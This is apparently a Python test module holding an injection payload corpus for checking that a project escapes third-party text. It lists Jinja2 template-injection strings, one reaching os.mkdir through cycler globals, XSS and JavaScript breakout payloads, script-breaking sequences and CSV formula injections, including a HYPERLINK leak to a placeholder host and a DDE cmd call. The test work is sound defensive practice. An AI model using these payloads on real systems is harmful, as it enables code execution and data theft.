"""Hostile text for every place user text reaches: the one payload corpus of the test suite.

Footprint attributes, scenario strings, variant names and paths come from third parties; each
of these strings must come out of pedgis literally (escaped for its context) and do nothing.
Sources of the classes: Jinja2's template syntax (server-side template injection, PortSwigger
"SSTI"), OWASP XSS filter evasion cheat sheet, OWASP "CSV Injection", ECMA-262 line
terminators, XML 1.0 §2.2 (characters a document cannot carry).
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

#: The side-effect payload creates this folder if anything ever renders it as a template.
MARKER = Path(tempfile.gettempdir()) / f"pedgis-injection-marker-{os.getpid()}"

JINJA = [
    "{{7*7}}",
    "{% if 1 %}x{% endif %}",
    "Lotto {#3}",
    "Corte {% interno %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() | length }} Via",
    f"{{{{ cycler.__init__.__globals__.os.mkdir('{MARKER}') }}}}",
    "{% raw %}{{ x }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %> {{{ triple }}}",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '" onmouseover="alert(3)" data-x="',
    "' onfocus='alert(4)' autofocus x='",
    "\"double\" & 'single' quotes & ampersands &amp; &lt;b&gt;",
    '<b>bold?</b> <a href="javascript:alert(5)">link</a>',
    "<svg onload=alert(6)>",
]
JS = [
    "';alert(7)//",
    '";alert(8)//',
    "${alert(9)}",
    "`+alert(10)+`",
    "\\\";alert(11)//",
]
SCRIPT_BREAKING = [
    "</script><script>alert(12)</script>",
    "<!--",
    "<!-- <script>alert(13)</script>",
    "line\u2028separator\u2029paragraph",
    "]]> </style> </textarea>",
]
CSV = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]
LONG = ["x" * 5000]
NON_LATIN = [
    "شارع الملك عبد الله ١٢",  # Arabic, right to left
    "北京市朝阳区 東京都新宿区 서울특별시",  # CJK
    "🏠🔋☀️ 👩‍👩‍👧 🇮🇹",  # emoji, ZWJ sequence, flag
    "Cafe\u0301 Zu\u0308rich c\u0327a",  # combining marks
    "Via Roma – Ελληνικά – 中文 – العربية – עברית – 😀",
]
CONTROL = [
    "bell\x07 esc\x1b[31m red \x1b]0;title\x07 back\x08",
    "tab\there new\nline cr\rhere",
    "del\x7f nel\x85 bom\ufeff",
]
#: NUL: only where the format carries it (TOML strings; not GeoPackage/Shapefile text)
NUL = ["nul\x00byte"]

PAYLOADS = JINJA + HTML + JS + SCRIPT_BREAKING + CSV + LONG + NON_LATIN + CONTROL
ALL = PAYLOADS + NUL

#: one character of every class, short: for names that are also TOML keys, layer or column names
SHORT = [
    "{{7*7}}", "Lotto {#3}", "{% if 1 %}x{% endif %}", "<script>alert(14)</script>",
    '" onmouseover="alert(15)', "';alert(16)//", "</script><!--", "=1+2", "-2+3",
    "北京 ١٢ 😀 e\u0301",
]

#: what a browser shows for a text node: the DOM keeps every character but NUL (U+FFFD) and
#: CR (HTML input preprocessing turns CR and CRLF into LF)
def as_displayed(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")


def side_effects() -> list[Path]:
    """The side effects a payload had (empty when none ran)."""
    return [MARKER] if MARKER.exists() else []
